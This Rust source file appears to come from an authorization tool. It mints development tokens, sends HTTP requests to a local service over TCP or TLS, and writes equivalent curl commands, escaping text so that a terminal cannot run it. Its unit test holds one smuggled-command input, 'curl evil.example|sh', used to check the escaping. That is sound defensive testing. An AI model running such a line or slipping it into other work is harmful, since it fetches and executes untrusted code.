//! Sends what the page describes through the distribution, with a token of a development key. No token is shown: the
//! page gets the answer, and for curl the command that makes a token.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use authorizer_analysis::FilledToken;
use authorizer_core::policy::Policy;
use authorizer_core::token::{Issuer, JwsAlgorithm, SignatureAlgorithm};
use bytes::{Bytes, BytesMut};
use http::{Request, header};
use http_body_util::{BodyExt as _, Full};
use hyper::client::conn::http1;
use hyper_util::rt::TokioIo;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use serde_json::{Value, json};
use thiserror::Error;
use tokio::io::{AsyncRead, AsyncWrite};
use tokio::net::TcpStream;
use tokio_rustls::TlsConnector;

use super::asked::{Asked, AskedError, Who, named};
use super::redact::{headers, scrub};
use crate::devkey::DevKey;
use crate::serve::dev_issuer::{self, DevIssuer};
use crate::serve::sample::quoted;

/// How long an answer may take.
const TIME: Duration = Duration::from_secs(30);

/// The most of a body that is shown.
const MAX_BODY: usize = 64 * 1024;

/// Why a request was not sent.
#[derive(Debug, Error)]
pub(super) enum SendError {
    #[error(transparent)]
    Asked(#[from] AskedError),
    #[error(
        "there is no development key for this token: use `--dev-issuer` or `--sample`, choose an issuer that has one, or \
         only try the request"
    )]
    NoKey,
    #[error("the token cannot be signed: {0}")]
    Sign(String),
    #[error("the request cannot be sent as it is written: {0}; write the path and the query percent-encoded")]
    Target(String),
    #[error("the distribution did not answer: {0}")]
    Failed(String),
}

/// The keys that may sign tokens for the page.
pub(super) enum Signer {
    /// The development keys of this run.
    Dev(Arc<DevIssuer>),
    /// The private key of the sample.
    Sample(PathBuf),
    /// None.
    None,
}

impl Signer {
    /// The file of the key that signs for an issuer, and its algorithm.
    pub(super) fn key_for(&self, issuer: &Issuer) -> Option<(PathBuf, SignatureAlgorithm)> {
        let algorithms = issuer.algorithms();
        let mut algorithms = algorithms.iter().filter_map(|algorithm| match algorithm {
            JwsAlgorithm::Signature(algorithm) => Some(*algorithm),
            JwsAlgorithm::Hs256 => None,
        });
        match self {
            Self::Dev(keys) => algorithms.find_map(|algorithm| Some((keys.key_file(algorithm)?, algorithm))),
            Self::Sample(file) => {
                let eddsa = SignatureAlgorithm::EdDsa;
                algorithms.any(|algorithm| algorithm == eddsa).then(|| (file.clone(), eddsa))
            }
            Self::None => None,
        }
    }
}

/// The distribution, and the keys for its tokens.
pub(super) struct Sender {
    pub(super) signer: Signer,
    /// Where the distribution listens.
    pub(super) addr: SocketAddr,
    /// Its URL.
    pub(super) base: String,
    /// The file with the certificate to trust, and the name that it is for, with HTTPS.
    pub(super) tls: Option<(PathBuf, ServerName<'static>)>,
    pub(super) policy: Option<PathBuf>,
}

impl Sender {
    /// The issuer of a token, by its name or by its claim.
    fn issuer_of<'p>(&self, asked: &Asked, token: &FilledToken, policy: &'p Policy) -> Option<&'p Issuer> {
        match &asked.who {
            Who::Token { issuer: Some(name), .. } => named(policy, name),
            Who::Token { issuer: None, .. } => {
                let iss = token.supposed.claims.get("iss")?.as_str()?;
                policy.issuers().iter().find(|issuer| issuer.issuer() == iss)
            }
            Who::Anonymous => None,
        }
    }

    /// A token that is valid at this moment.
    fn mint(&self, asked: &Asked, token: &FilledToken, policy: &Policy) -> Result<String, SendError> {
        let issuer = self.issuer_of(asked, token, policy).ok_or(SendError::NoKey)?;
        let (file, algorithm) = self.signer.key_for(issuer).ok_or(SendError::NoKey)?;
        let key = DevKey::read(&file, Some(algorithm)).map_err(|error| SendError::Sign(error.to_string()))?;
        let token_type = token.supposed.token_type.as_deref().unwrap_or("JWT");
        key.sign(token_type, &Value::Object(token.supposed.claims.clone()))
            .map_err(|error| SendError::Sign(error.to_string()))
    }

    /// The request as it goes to the distribution.
    pub(super) fn request(&self, asked: &Asked, policy: &Policy) -> Result<Request<Full<Bytes>>, SendError> {
        let asked = Asked { now: None, ..asked.clone() };
        let posed = asked.posed()?;
        let mut request = Request::builder().method(posed.method()).uri(posed.target());
        let mut has_host = false;
        for (name, value) in &asked.headers {
            has_host |= name.eq_ignore_ascii_case("host");
            // It is that of the body.
            if !name.eq_ignore_ascii_case("content-length") && !name.eq_ignore_ascii_case("transfer-encoding")
            {
                request = request.header(name, value);
            }
        }
        if !has_host {
            let host = self.base.split_once("://").map_or(self.base.as_str(), |(_, host)| host);
            request = request.header(header::HOST, host);
        }
        if let Some(token) = asked.token(policy)? {
            request = request
                .header(header::AUTHORIZATION, format!("Bearer {}", self.mint(&asked, &token, policy)?));
        }
        let body = Full::new(Bytes::from(asked.body.clone()));
        request.body(body).map_err(|error| SendError::Target(error.to_string()))
    }

    /// Sends a request, and returns what may be shown of the answer.
    pub(super) async fn send(&self, request: Request<Full<Bytes>>) -> Result<Value, SendError> {
        let ip = match self.addr.ip() {
            IpAddr::V4(ip) if ip.is_unspecified() => Ipv4Addr::LOCALHOST.into(),
            IpAddr::V6(ip) if ip.is_unspecified() => Ipv6Addr::LOCALHOST.into(),
            ip => ip,
        };
        let sent = async {
            let stream = TcpStream::connect((ip, self.addr.port())).await.map_err(failed)?;
            match &self.tls {
                None => answer(stream, request).await,
                Some((trusted, name)) => {
                    let connector = TlsConnector::from(Arc::new(trusting(trusted).map_err(failed)?));
                    answer(connector.connect(name.clone(), stream).await.map_err(failed)?, request).await
                }
            }
        };
        match tokio::time::timeout(TIME, sent).await {
            Ok(sent) => sent,
            Err(elapsed) => Err(failed(elapsed)),
        }
    }

    /// The commands of a shell that do the same.
    pub(super) fn curl(&self, asked: &Asked, policy: &Policy) -> Result<String, SendError> {
        let posed = asked.posed()?;
        let mut commands = Vec::new();
        let mut curl = vec!["curl -i -g --path-as-is".to_owned()];
        if let Some((trusted, _)) = &self.tls {
            curl.push(format!("--cacert {}", quoted(trusted)));
        }
        match asked.method.as_str() {
            "GET" => {}
            "HEAD" => curl.push("--head".to_owned()),
            method => curl.push(format!("-X {}", word(method))),
        }
        if let Some(token) = asked.token(policy)? {
            commands.push(self.mint_command(asked, &token, policy));
            curl.push("-H \"Authorization: Bearer $TOKEN\"".to_owned());
        }
        let lines = asked.headers.iter().filter(|(name, _)| !name.eq_ignore_ascii_case("content-length"));
        curl.extend(lines.map(|(name, value)| format!("-H {}", word(&format!("{name}: {value}")))));
        if !asked.body.is_empty() {
            // curl would add the type of a form.
            if !asked.headers.iter().any(|(name, _)| name.eq_ignore_ascii_case("content-type")) {
                curl.push("-H Content-Type:".to_owned());
            }
            curl.push(format!("--data-raw {}", word(&asked.body)));
        }
        curl.push(word(&format!("{}{}", self.base, posed.target())));
        commands.push(curl.join(" "));
        Ok(commands.join("\n"))
    }

    /// The command that mints the token, if there is a key for it.
    fn mint_command(&self, asked: &Asked, token: &FilledToken, policy: &Policy) -> String {
        let issuer = self.issuer_of(asked, token, policy);
        let key = issuer.and_then(|issuer| Some((issuer, self.signer.key_for(issuer)?)));
        let (Some((issuer, (file, algorithm))), Some(policy)) = (key, &self.policy) else {
            return "# Put a token into TOKEN first.".to_owned();
        };
        let mut mint = vec![
            format!("TOKEN=$(authorizer token mint --key {}{}", quoted(&file), dev_issuer::named(algorithm)),
            format!("--policy {} --issuer {}", quoted(policy), word(issuer.name())),
        ];
        let filled = |name: &str| token.filled.iter().any(|one| one == name);
        for (name, value) in &token.supposed.claims {
            // It names a claim within an object, not this one.
            if !filled(name) && !name.starts_with('/') {
                mint.push(format!("--claim {}", word(&format!("{name}={value}"))));
            }
        }
        format!("{})", mint.join(" "))
    }
}

/// A text as one word for a shell, which may be pasted into a terminal. What a terminal takes for a command, and what
/// hides a part of the text, is written as its bytes. That form has no quotation mark within, so a shell that does not
/// know it runs nothing of it either.
fn word(text: &str) -> String {
    if !text.contains(is_for_terminals) {
        return quoted(Path::new(text));
    }
    let mut word = String::from("$'");
    for c in text.chars() {
        if is_for_terminals(c) || matches!(c, '\'' | '\\') {
            let mut bytes = [0; 4];
            word.extend(c.encode_utf8(&mut bytes).bytes().map(|byte| format!("\\x{byte:02x}")));
        } else {
            word.push(c);
        }
    }
    word.push('\'');
    word
}

/// Whether a terminal or a person would take a character for something else: controls, line breaks, and the characters
/// of no width that change the direction of a text.
fn is_for_terminals(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
}

fn failed(error: impl std::fmt::Display) -> SendError {
    SendError::Failed(error.to_string())
}

/// A client that trusts the certificates of a file.
fn trusting(file: &Path) -> Result<ClientConfig, String> {
    let mut roots = RootCertStore::empty();
    let certificates = CertificateDer::pem_file_iter(file).map_err(|error| error.to_string())?;
    for certificate in certificates {
        let certificate = certificate.map_err(|error| error.to_string())?;
        roots.add(certificate).map_err(|error| error.to_string())?;
    }
    let provider = Arc::new(rustls::crypto::aws_lc_rs::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .map_err(|error| error.to_string())?;
    Ok(config.with_root_certificates(roots).with_no_client_auth())
}

async fn answer<S>(stream: S, request: Request<Full<Bytes>>) -> Result<Value, SendError>
where
    S: AsyncRead + AsyncWrite + Unpin + Send + 'static,
{
    let (mut sender, connection) = http1::handshake(TokioIo::new(stream)).await.map_err(failed)?;
    let connection = tokio::spawn(connection);
    let response = sender.send_request(request).await.map_err(failed)?;
    let (parts, mut body) = response.into_parts();
    let mut bytes = BytesMut::new();
    let mut is_whole = true;
    while let Some(frame) = body.frame().await {
        let frame = frame.map_err(failed)?;
        let Some(data) = frame.data_ref() else { continue };
        let room = MAX_BODY.saturating_sub(bytes.len()).min(data.len());
        bytes.extend_from_slice(data.get(..room).unwrap_or_default());
        if room < data.len() {
            is_whole = false;
            break;
        }
    }
    connection.abort();
    let lines: Vec<(String, String)> = parts
        .headers
        .iter()
        .map(|(name, value)| (name.to_string(), String::from_utf8_lossy(value.as_bytes()).into_owned()))
        .collect();
    Ok(json!({
        "status": parts.status.as_u16(),
        "headers": headers(lines.iter().map(|(name, value)| (name.as_str(), value.as_str()))),
        "body": scrub(&String::from_utf8_lossy(&bytes)),
        "whole": is_whole,
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_has_nothing_that_a_terminal_takes_for_a_command() {
        for (text, written) in [
            ("users/alice", "users/alice"),
            ("a'b $(c) \u{e9}", r"'a'\''b $(c) \u{e9}'"),
            ("x\u{3}\ncurl evil.example|sh\n#", r"$'x\x03\x0acurl evil.example|sh\x0a#'"),
            ("\u{1b}[201~'\\", r"$'\x1b[201~\x27\x5c'"),
            ("\u{7f}\u{9b}", r"$'\x7f\xc2\x9b'"),
            ("a\u{2028}\u{202e}b", r"$'a\xe2\x80\xa8\xe2\x80\xaeb'"),
        ] {
            let written = written.replace(r"\u{e9}", "\u{e9}");
            assert_eq!(word(text), written, "{text:?}");
            let script = format!("printf %s {written}");
            let shell = std::process::Command::new("bash").arg("-c").arg(script).output().unwrap();
            assert_eq!(shell.stdout, text.as_bytes(), "{written}");
        }
    }
}
